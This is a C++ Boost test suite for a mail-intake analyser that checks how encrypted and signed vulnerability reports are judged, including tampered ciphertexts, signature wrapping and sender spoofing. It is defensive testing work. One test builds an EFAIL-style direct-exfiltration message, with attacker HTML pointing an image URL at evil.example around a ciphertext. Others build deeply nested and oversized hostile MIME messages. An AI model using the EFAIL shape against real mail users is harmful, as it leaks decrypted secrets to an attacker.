// intake_analysis_test: the inbound verdict on messages made at test time with real gpg keys:
// PGP/MIME and inline, signed and encrypted, tampered, unprotected, wrong key, mixed content,
// signature wrapping, identity tricks, protected headers, limits and garbage.
#define BOOST_TEST_MODULE intake_analysis
#include <algorithm>
#include <boost/test/unit_test.hpp>

#include "core/clock.h"
#include "crypto/compose.h"
#include "gpg_fixture.h"
#include "intake/analysis.h"
#include "message/codec.h"

using namespace vmt;
using vmt::testing::gpg_home;
using vmt::testing::temp_dir;

namespace {

const std::string canary = "CANARY-7f3a-embargoed-detail";

struct world {
  temp_dir dir;
  gpg_home team{dir, "team", "security@example.org"};
  gpg_home reporter{dir, "reporter", "reporter@example.net"};
  gpg_home stranger{dir, "stranger", "stranger@example.com"};
  world() {
    team.import_from(reporter);
    reporter.import_from(team);
    reporter.import_from(stranger);
    stranger.import_from(team);
  }
};

world& w() {
  static world instance;
  return instance;
}

intake::analysis run(const std::string& raw, intake::input_limits lim = {}) {
  intake::options opt;
  opt.gnupg_home = w().team.home;
  opt.limits = lim;
  auto r = intake::analyze(raw, opt);
  BOOST_REQUIRE_MESSAGE(r, (r ? "" : r.err().message()));
  return *r;
}

bool has_flag(const intake::analysis& a, const std::string& f) {
  return std::find(a.flags.begin(), a.flags.end(), f) != a.flags.end();
}

// A report as a reporter's mail client would send it (compose() is RFC 3156 and checked by notmuch in T620).
std::string report(bool encrypt, const std::string& body = "Nova leaks " + canary + "\n",
                   bool attach = false) {
  crypto::outgoing m;
  m.from = {"Rita Reporter", "reporter@example.net"};
  m.to = {{"VMT", "security@example.org"}};
  m.subject = "Heap overflow in nova";
  m.body = body;
  if (attach) m.attachments = {{"poc.py", "text/x-python", "print('" + canary + "')\n"}};
  m.sign_with = w().reporter.fpr;
  if (encrypt) m.encrypt_to = {w().team.fpr};
  auto c = crypto::compose(w().reporter.home, m);
  BOOST_REQUIRE_MESSAGE(c, (c ? "" : c.err().message()));
  return c->bytes;
}

std::string headers(const std::string& from = "Rita Reporter <reporter@example.net>") {
  return "From: " + from +
         "\r\nTo: security@example.org\r\nSubject: report\r\nMessage-ID: <x1@example.net>\r\n"
         "Date: " +
         clock::rfc5322_date(clock::now()) + "\r\nMIME-Version: 1.0\r\n";
}

// multipart/encrypted around an (armored or binary) OpenPGP message.
std::string pgp_mime(const std::string& cipher, bool base64 = false) {
  return headers() +
         "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"E\"\r\n\r\n"
         "--E\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--E\r\n"
         "Content-Type: application/octet-stream\r\n" +
         (base64 ? "Content-Transfer-Encoding: base64\r\n\r\n" + message::base64_encode(cipher)
                 : "\r\n" + cipher) +
         "\r\n--E--\r\n";
}

// The header block's Content-Type line(s) of a composed message, with the rest of the entity.
std::string entity_of(const std::string& raw) {
  auto ct = raw.find("Content-Type:");
  return raw.substr(ct);
}

}  // namespace

BOOST_AUTO_TEST_CASE(pgp_mime_encrypted_and_signed_report) {
  auto a = run(report(true, "Nova leaks " + canary + "\n", true));
  BOOST_TEST(a.readable);
  BOOST_TEST(a.encrypted);
  BOOST_TEST(!a.mixed);
  BOOST_TEST(intake::to_string(a.decrypt) == "ok");
  BOOST_TEST(intake::to_string(a.signature.status) == "valid");
  BOOST_TEST(a.signature.fingerprint == w().reporter.fpr);
  BOOST_TEST(a.signature.matches_from);
  BOOST_TEST(a.signature.uid_email == "reporter@example.net");
  BOOST_TEST(a.signature.trust == "uncertified");
  BOOST_TEST(a.body.find(canary) != std::string::npos);
  BOOST_TEST(a.plain.empty());
  BOOST_REQUIRE(a.attachments.size() == 1u);
  BOOST_TEST(a.attachments[0].filename == "poc.py");
  BOOST_TEST(a.attachments[0].encrypted);
  BOOST_TEST(a.attachments[0].is_signed);
  BOOST_TEST(a.subject == "Heap overflow in nova");  // protected header; the outer one is "..."
  BOOST_TEST(has_flag(a, "protected-subject"));
  BOOST_TEST(
      std::all_of(a.parts.begin(), a.parts.end(), [](const auto& p) { return p.encrypted && p.is_signed; }));
  // The verdict carries no text: neither the body nor the names of encrypted files.
  std::string v = intake::verdict_json(a);
  BOOST_TEST(v.find(canary) == std::string::npos);
  BOOST_TEST(v.find("poc.py") == std::string::npos);
  BOOST_TEST(v.find("Heap overflow") == std::string::npos);
}

BOOST_AUTO_TEST_CASE(certified_reporter_key_is_reported_certified) {
  temp_dir t;
  gpg_home team2(t, "team2", "vmt@example.org");
  team2.import_from(w().reporter);
  team2.certify(w().reporter);
  intake::options opt;
  opt.gnupg_home = team2.home;
  auto a = intake::analyze(report(false), opt);
  BOOST_REQUIRE(a);
  BOOST_TEST(intake::to_string(a->signature.status) == "valid");
  BOOST_TEST(a->signature.trust == "certified");
}

BOOST_AUTO_TEST_CASE(signed_only_and_unsigned_reports) {
  auto s = run(report(false));
  BOOST_TEST(s.readable);
  BOOST_TEST(!s.encrypted);
  BOOST_TEST(intake::to_string(s.signature.status) == "valid");
  BOOST_TEST(s.signature.matches_from);
  BOOST_TEST(s.body.find(canary) != std::string::npos);
  BOOST_TEST(s.subject == "Heap overflow in nova");

  auto u = run(headers() + "Content-Type: text/plain; charset=utf-8\r\n\r\nplain report " + canary + "\r\n");
  BOOST_TEST(u.readable);
  BOOST_TEST(!u.encrypted);
  BOOST_TEST(intake::to_string(u.signature.status) == "none");
  BOOST_TEST(!u.signature.matches_from);
  BOOST_TEST(u.body == "plain report " + canary + "\n");
  BOOST_TEST(u.message_id == "x1@example.net");
}

BOOST_AUTO_TEST_CASE(bad_and_unknown_signatures) {
  std::string raw = report(false);
  auto pos = raw.find("Nova leaks");
  BOOST_REQUIRE(pos != std::string::npos);
  raw.replace(pos, 4, "Nav0");  // a change after signing
  auto bad = run(raw);
  BOOST_TEST(intake::to_string(bad.signature.status) == "bad");
  BOOST_TEST(!bad.signature.matches_from);

  crypto::outgoing m;
  m.from = {"", "stranger@example.com"};
  m.to = {{"", "security@example.org"}};
  m.subject = "hi";
  m.body = "unknown signer\n";
  m.sign_with = w().stranger.fpr;
  auto c = crypto::compose(w().stranger.home, m);
  BOOST_REQUIRE(c);
  auto unk = run(c->bytes);
  BOOST_TEST(intake::to_string(unk.signature.status) == "unknown-key");
  BOOST_TEST(unk.readable);
}

BOOST_AUTO_TEST_CASE(inline_pgp_encrypted_signed_and_partial) {
  std::string cipher =
      w().reporter.gpg("-a -s -e -r " + w().team.fpr + " --trust-model always", canary + "\n");
  auto e = run(headers() + "Content-Type: text/plain\r\n\r\n" + message::to_crlf(cipher));
  BOOST_TEST(e.encrypted);
  BOOST_TEST(intake::to_string(e.signature.status) == "valid");
  BOOST_TEST(e.signature.matches_from);
  BOOST_TEST(e.body == canary + "\n");

  std::string clear = w().reporter.gpg("--clearsign", "signed statement\n");
  auto c = run(headers() + "Content-Type: text/plain\r\n\r\n" + message::to_crlf(clear));
  BOOST_TEST(intake::to_string(c.signature.status) == "valid");
  BOOST_TEST(!c.encrypted);
  BOOST_TEST(c.body.find("signed statement") != std::string::npos);

  // Unsigned text before a signed block: the signature covers only the block.
  auto p = run(headers() + "Content-Type: text/plain\r\n\r\nJohnny, you are fired!\r\n\r\n" +
               message::to_crlf(clear));
  BOOST_TEST(intake::to_string(p.signature.status) == "partial");
  BOOST_TEST(!p.signature.matches_from);

  // Unencrypted text around an encrypted block: mixed, the text kept apart from the report.
  auto m = run(headers() + "Content-Type: text/plain\r\n\r\nPlease reply quoting:\r\n" +
               message::to_crlf(cipher) + "\r\nsuffix text\r\n");
  BOOST_TEST(!m.encrypted);
  BOOST_TEST(m.mixed);
  BOOST_TEST(m.body == canary + "\n");
  BOOST_TEST(m.plain.find("Please reply quoting") != std::string::npos);
  BOOST_TEST(m.body.find("Please reply") == std::string::npos);

  // Two blocks: never merged into one encrypted report.
  auto two = run(headers() + "Content-Type: text/plain\r\n\r\n" + message::to_crlf(cipher) +
                 message::to_crlf(cipher));
  BOOST_TEST(!two.encrypted);
  BOOST_TEST(two.body == canary + "\n");
}

BOOST_AUTO_TEST_CASE(tampered_unprotected_and_undecryptable_ciphertexts_are_quarantined) {
  std::string bin =
      w().reporter.gpg("-e -r " + w().team.fpr + " --trust-model always", std::string(3000, 'x') + canary);
  bin[bin.size() - 40] ^= 0x01;
  auto t = run(pgp_mime(bin, true));
  BOOST_TEST(!t.readable);
  BOOST_TEST(t.quarantine_reason == "integrity");
  BOOST_TEST(intake::to_string(t.decrypt) == "integrity");
  BOOST_TEST(t.body.empty());

  std::string nomdc = w().reporter.gpg(
      "-a -e -r " + w().team.fpr + " --trust-model always --rfc2440 --cipher-algo CAST5", canary);
  auto n = run(pgp_mime(message::to_crlf(nomdc)));
  BOOST_TEST(!n.readable);
  BOOST_TEST(n.quarantine_reason == "integrity");
  BOOST_TEST(n.body.find(canary) == std::string::npos);
  auto ni = run(headers() + "Content-Type: text/plain\r\n\r\n" + message::to_crlf(nomdc));  // inline too
  BOOST_TEST(ni.quarantine_reason == "integrity");
  BOOST_TEST(ni.body.empty());

  std::string other = w().reporter.gpg("-a -e -r " + w().stranger.fpr + " --trust-model always", canary);
  auto k = run(pgp_mime(message::to_crlf(other)));
  BOOST_TEST(!k.readable);
  BOOST_TEST(k.quarantine_reason == "no-key");
  BOOST_TEST(k.encrypted_to.size() == 1u);

  auto g =
      run(pgp_mime("-----BEGIN PGP MESSAGE-----\r\n\r\nnot base64 at all\r\n-----END PGP MESSAGE-----\r\n"));
  BOOST_TEST(!g.readable);
  BOOST_TEST(g.quarantine_reason == "decrypt-failed");
}

BOOST_AUTO_TEST_CASE(mixed_content_and_oracle_shapes_are_not_encrypted) {
  std::string enc = report(true);
  std::string enc_entity = entity_of(enc);
  // EFAIL direct exfiltration shape: attacker HTML, then the ciphertext, in multipart/mixed.
  std::string efail = headers() +
                      "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\n"
                      "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--M\r\n" +
                      enc_entity + "\r\n--M\r\nContent-Type: text/html\r\n\r\n\">\r\n--M--\r\n";
  auto a = run(efail);
  BOOST_TEST(a.readable);
  BOOST_TEST(!a.encrypted);
  BOOST_TEST(a.mixed);
  BOOST_TEST(has_flag(a, "mixed-content"));
  BOOST_TEST(has_flag(a, "nested-encryption"));
  BOOST_TEST(a.body.find(canary) != std::string::npos);
  BOOST_TEST(a.body.find("evil.example") == std::string::npos);
  BOOST_TEST(a.plain.find("evil.example") != std::string::npos);
  BOOST_TEST(intake::to_string(a.signature.status) == "partial");

  // Old ciphertext forwarded as message/rfc822 inside a new message: not decrypted, not encrypted.
  std::string fwd = headers() +
                    "Content-Type: multipart/mixed; boundary=\"F\"\r\n\r\n--F\r\n"
                    "Content-Type: text/plain\r\n\r\nPlease see the bounce.\r\n--F\r\nContent-Type: "
                    "message/rfc822\r\n\r\n" +
                    enc + "\r\n--F--\r\n";
  auto f = run(fwd);
  BOOST_TEST(!f.encrypted);
  BOOST_TEST(intake::to_string(f.decrypt) == "none");
  BOOST_TEST(f.body.find(canary) == std::string::npos);

  // Ciphertext as the only child of an unencrypted multipart: nested, not the message's body.
  auto n = run(headers() + "Content-Type: multipart/mixed; boundary=\"N\"\r\n\r\n--N\r\n" + enc_entity +
               "\r\n--N--\r\n");
  BOOST_TEST(!n.encrypted);
  BOOST_TEST(has_flag(n, "nested-encryption"));
}

BOOST_AUTO_TEST_CASE(signature_wrapping_is_partial) {
  std::string signed_entity = entity_of(report(false));
  auto a = run(headers() +
               "Content-Type: multipart/mixed; boundary=\"W\"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\n"
               "Johnny, you are fired!\r\n--W\r\n" +
               signed_entity + "\r\n--W--\r\n");
  BOOST_TEST(intake::to_string(a.signature.status) == "partial");
  BOOST_TEST(!a.signature.matches_from);
  BOOST_TEST(has_flag(a, "partially-signed"));
  auto signed_parts =
      std::count_if(a.parts.begin(), a.parts.end(), [](const auto& p) { return p.is_signed; });
  BOOST_TEST(signed_parts >= 1);
  BOOST_TEST(signed_parts < static_cast<long>(a.parts.size()));

  // A multipart/signed whose signature part was stripped: never valid.
  auto s =
      run(headers() +
          "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"S\"\r\n\r\n"
          "--S\r\nContent-Type: text/plain\r\n\r\nhello\r\n--S--\r\n");
  BOOST_TEST(intake::to_string(s.signature.status) == "bad");
  // S/MIME is not verified: unsigned, never a crash.
  auto sm = run(
      headers() +
      "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"P\"\r\n\r\n"
      "--P\r\nContent-Type: text/plain\r\n\r\nhello\r\n--P\r\nContent-Type: application/pkcs7-signature\r\n"
      "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCAMIACAQEx\r\n--P--\r\n");
  BOOST_TEST(intake::to_string(sm.signature.status) == "none");
  BOOST_TEST(sm.readable);
}

BOOST_AUTO_TEST_CASE(signer_identity_must_match_the_single_from) {
  std::string raw = report(false);
  auto swap_from = [&](const std::string& from_lines) {
    std::string r = raw;
    auto b = r.find("From: ");
    auto e = r.find("\r\n", b);
    return r.replace(b, e - b, from_lines);
  };
  auto other = run(swap_from("From: boss@example.net"));
  BOOST_TEST(intake::to_string(other.signature.status) == "valid");
  BOOST_TEST(!other.signature.matches_from);
  BOOST_TEST(has_flag(other, "signer-not-from"));

  auto dup = run(swap_from("From: boss@example.net\r\nFrom: reporter@example.net"));
  BOOST_TEST(!dup.signature.matches_from);
  BOOST_TEST(has_flag(dup, "duplicate-from"));
  BOOST_TEST(!dup.from.well_formed);

  auto two = run(swap_from("From: reporter@example.net, boss@example.net"));
  BOOST_TEST(!two.signature.matches_from);
  BOOST_TEST(has_flag(two, "multiple-from-mailboxes"));

  auto name = run(swap_from("From: \"boss@example.net\" <reporter@example.net>"));
  BOOST_TEST(name.signature.matches_from);             // the addr-spec is the signer's...
  BOOST_TEST(has_flag(name, "display-name-address"));  // ...but the name reads like someone else

  auto missing = run(swap_from("X-No-From: x"));
  BOOST_TEST(!missing.signature.matches_from);
  BOOST_TEST(has_flag(missing, "missing-from"));

  auto reply = run(swap_from("From: reporter@example.net\r\nReply-To: attacker@evil.example"));
  BOOST_TEST(reply.signature.matches_from);
  BOOST_TEST(has_flag(reply, "reply-to-differs"));
}

BOOST_AUTO_TEST_CASE(protected_headers_only_from_a_decrypted_payload) {
  // Cleartext "protected" headers next to nothing encrypted: ignored.
  auto phony = run(headers() +
                   "Content-Type: text/plain; protected-headers=\"v1\"\r\nSubject: phony\r\n\r\nhello\r\n");
  BOOST_TEST(phony.subject == "report");
  BOOST_TEST(!has_flag(phony, "protected-headers"));
  // Inside a nested (not whole) ciphertext: ignored too.
  auto nested = run(headers() + "Content-Type: multipart/mixed; boundary=\"N\"\r\n\r\n--N\r\n" +
                    entity_of(report(true)) + "\r\n--N--\r\n");
  BOOST_TEST(nested.subject == "report");
  BOOST_TEST(!has_flag(nested, "protected-subject"));
}

BOOST_AUTO_TEST_CASE(limits_garbage_and_hostile_structure) {
  intake::input_limits small;
  small.max_message_bytes = 1000;
  auto big = run(headers() + "\r\n" + std::string(5000, 'a'), small);
  BOOST_TEST(!big.readable);
  BOOST_TEST(big.quarantine_reason == "too-large");
  BOOST_TEST(big.message_id == "x1@example.net");

  std::string junk;
  for (int i = 0; i < 4096; ++i) junk += static_cast<char>(i * 7 % 32);
  auto g = run(junk);
  BOOST_TEST(!g.readable);
  BOOST_TEST(g.quarantine_reason == "garbage");
  BOOST_TEST(run("").quarantine_reason == "garbage");

  std::string deep = headers();
  for (int i = 0; i < 3000; ++i)
    deep += "Content-Type: multipart/mixed; boundary=\"d" + std::to_string(i) + "\"\r\n\r\n--d" +
            std::to_string(i) + "\r\n";
  auto d = run(deep);
  BOOST_TEST(has_flag(d, "limits-reached"));

  std::string many = headers() + "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n";
  std::string one = entity_of(report(true));
  for (int i = 0; i < 20; ++i) many += "--m\r\n" + one + "\r\n";
  many += "--m--\r\n";
  auto m = run(many);  // 20 ciphertexts: gpg runs are capped, the rest are not decrypted
  BOOST_TEST(has_flag(m, "too-many-crypto-parts"));
  BOOST_TEST(!m.encrypted);
}
